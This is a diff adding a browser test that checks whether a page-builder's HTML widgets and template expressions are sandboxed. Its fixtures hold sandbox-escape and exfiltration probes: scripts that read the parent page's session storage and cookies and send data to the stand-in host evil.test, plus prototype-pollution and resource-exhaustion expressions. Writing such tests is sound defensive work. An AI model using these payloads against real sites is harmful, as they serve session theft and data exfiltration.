@@ -415,4 +415,151 @@ export function appPageTests(stage: () => Stage): void {
     await theirs.getByText('Fixed').waitFor();
     await theirs.close();
   });
+
+  test('markup and code of a page reach neither the console, nor its storage, nor any server', async () => {
+    const { page, go, path, faults } = stage();
+    const asked: string[] = [];
+    const onRequest = (request: { url(): string }) => void asked.push(request.url());
+    page.on('request', onRequest);
+    const row = inMarkup.map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`).join(',\n');
+    const content = `<div id="here">Shown</div>${PASSIVE}<script>
+      (async () => {
+        const got = [];
+        for (const [name, attack] of [${row}]) {
+          try {
+            const value = await Promise.race([attack(), new Promise((end) => setTimeout(end, 300))]);
+            if (value !== undefined && value !== null) got.push(name + ': ' + value);
+          } catch {}
+        }
+        parent.postMessage({ ended: true, got }, '*');
+        setTimeout(() => { location.href = 'https://evil.test/leave?' + got.length; }, 200);
+      })();
+    </script>`;
+    const { id, keys } = await aPage('Hostile', {
+      rows: [
+        [
+          [
+            'markup',
+            'html',
+            { content, height: 120 },
+            { onMessage: [{ type: 'SET_VARIABLE', key: 'got', value: '{{event.data}}' }] },
+          ],
+        ],
+        [['report', 'text', { content: 'Ended {{variables.got.ended}}, got {{variables.got.got | json}}' }]],
+        [['site', 'iframe', { src: 'javascript:alert(1)' }]],
+        [['image', 'image', { src: 'https://evil.test/pixel.png', alt: 'Pixel' }]],
+        ...inCode.map(([code], at): [string, string, Row][] => [
+          [`code${at}`, 'stat', { label: `Case ${at}`, value: `{{${code}}}` }],
+        ]),
+        [['good', 'text', { content: 'Still {{[1, 2].map((n) => n * 2).join("+")}}' }]],
+      ],
+      more: { variables: [{ key: 'got', type: 'object' }] },
+    });
+    await go(path(`/pages/${id}`));
+    const part = (name: string) =>
+      page.locator('section.page-widget').nth(keys.findIndex((key) => key.endsWith(`_${name}`)));
+    await part('report').getByText('Ended true, got []').waitFor();
+    await page.frameLocator('iframe[title="A widget"]').first().locator('body').waitFor();
+    await part('good').getByText('Still 2+4').waitFor();
+    await part('site').getByText('Only addresses with http and https are shown').waitFor();
+    await part('image').getByText('Only files that were uploaded here are shown').waitFor();
+    for (const [at, [code, shown]] of inCode.entries()) {
+      const text = part(`code${at}`);
+      await text.getByText(shown).first().waitFor();
+      expect([code, await text.getByText('leak').count()]).toEqual([code, 0]);
+    }
+    expect(asked.filter((url) => url.includes('evil.test'))).toEqual([]);
+    expect(new URL(page.url()).pathname).toBe(path(`/pages/${id}`));
+    page.off('request', onRequest);
+    // The browser writes an error for all that the policies refuse, and for nothing else.
+    const others = faults
+      .splice(0)
+      .filter((fault) => !/policy|sandbox|refused|blocked|Failed to (?:construct|load|execute)|-src/i.test(fault));
+    expect(others).toEqual([]);
+  });
 }
+
+/** What loads something without a script. */
+const PASSIVE = `
+  <img src="https://evil.test/image.png"><link rel="stylesheet" href="https://evil.test/sheet.css">
+  <style>@import url("https://evil.test/import.css"); #here { background: url("https://evil.test/background.png") }
+  @font-face { font-family: f; src: url("https://evil.test/font.woff") } #here { font-family: f }</style>
+  <script src="https://evil.test/script.js"></script><iframe src="https://evil.test/frame.html"></iframe>
+  <object data="https://evil.test/object.swf"></object><embed src="https://evil.test/embed.swf">
+  <video src="https://evil.test/video.mp4"></video><svg><image href="https://evil.test/svg.png" /></svg>
+  <base href="https://evil.test/"><meta http-equiv="refresh" content="60; url=https://evil.test/refresh">
+  <form id="form" action="https://evil.test/form" method="post"><input name="a" value="1"></form>`;
+
+/** Scripts of a widget with markup, each of which gives what it has got. */
+const inMarkup: readonly (readonly [name: string, code: string])[] = [
+  ['the document around', 'return parent.document.title'],
+  ['the storage around', 'return parent.sessionStorage.getItem("gantry.session")'],
+  ['an own storage', 'return sessionStorage.length'],
+  ['a local storage', 'return localStorage.length'],
+  ['cookies', 'return document.cookie'],
+  ['a database of the browser', 'indexedDB.open("a"); return 1'],
+  ['caches', 'return await caches.keys()'],
+  ['the API', 'return (await fetch("/api/v1/auth")).status'],
+  ['the API by its whole address', `return (await fetch(parent.location.origin + '/health')).status`],
+  ['another server', 'return (await fetch("https://evil.test/fetch", { mode: "no-cors" })).type'],
+  [
+    'an old request',
+    'const r = new XMLHttpRequest(); r.open("GET", "https://evil.test/xhr", false); r.send(); return r.status',
+  ],
+  [
+    'a socket',
+    'return await new Promise((end, fail) => { const s = new WebSocket("wss://evil.test/"); s.onopen = () => end(1); s.onerror = fail; })',
+  ],
+  [
+    'events of a server',
+    'return await new Promise((end, fail) => { const s = new EventSource("https://evil.test/"); s.onopen = () => end(1); s.onerror = fail; })',
+  ],
+  ['a beacon', 'navigator.sendBeacon("https://evil.test/beacon", "a")'],
+  ['the console elsewhere', 'top.location.href = "https://evil.test/top"; return 1'],
+  ['a window', 'return open("https://evil.test/window")'],
+  ['a form', 'document.getElementById("form").submit()'],
+  [
+    'a frame of the console',
+    'const f = document.createElement("iframe"); f.src = "/console/"; document.body.append(f); await new Promise((end) => f.onload = end); return f.contentDocument?.title',
+  ],
+  [
+    'a worker',
+    'return await new Promise((end, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => end(1); w.onerror = fail; })',
+  ],
+  ['code from text', 'return eval("1")'],
+  ['a module of another server', 'return Object.keys(await import("https://evil.test/module.js"))'],
+  ['another widget', 'return parent.frames[1].document.title'],
+  [
+    'a port of the page',
+    'parent.postMessage({ ready: true }, "*"); parent.postMessage(null, "*", [new MessageChannel().port1])',
+  ],
+  ['prototypes of the page', `parent.postMessage(JSON.parse('{"__proto__": {"polluted": 1}, "constructor": 1}'), '*')`],
+  [
+    'a download',
+    'const a = document.createElement("a"); a.href = "data:text/plain,a"; a.download = "a.txt"; a.click()',
+  ],
+];
+
+/** Code in expressions, and what is shown in its place. */
+const inCode: readonly (readonly [code: string, shown: string | RegExp])[] = [
+  ['typeof fetch', 'undefined'],
+  ['typeof XMLHttpRequest', 'undefined'],
+  ['typeof WebSocket', 'undefined'],
+  ['typeof importScripts', 'undefined'],
+  ['typeof postMessage', 'undefined'],
+  ['typeof document + typeof sessionStorage + typeof parent', 'undefinedundefinedundefined'],
+  ['typeof indexedDB + typeof caches + typeof navigator', 'undefinedundefinedundefined'],
+  ['typeof [].map.constructor("return this")().fetch', 'undefined'],
+  ['(() => typeof this)()', 'undefined'],
+  ['(() => { Array.prototype.map = () => "leak"; return 1; })()', /Cannot assign to read only/],
+  ['(() => { Object.prototype.leak = 1; return 1; })()', /not extensible/],
+  ['(() => { const a = {}; a.__proto__.leak = 1; return 1; })()', /not extensible/],
+  ['String(import("https://evil.test/code.js").catch(() => 0))', '[object Promise]'],
+  ['(() => { for (;;) {} })()', 'took longer than 100 ms'],
+  ['(() => { const all = []; for (;;) all.push(new Array(1000).fill(0)); })()', /took longer than 100 ms|memory/],
+  ['"x".repeat(3000000)', 'gives more than 2 MB'],
+  ['(() => { throw { toString() { throw 1; } }; })()', 'cannot be computed'],
+  ['variables.got.constructor.constructor("return typeof fetch")()', /undefined|null/],
+  ['queries.other.data', 'there is no query “other” on this page'],
+  ['variables.got["__proto__"]', 'may not read'],
+];
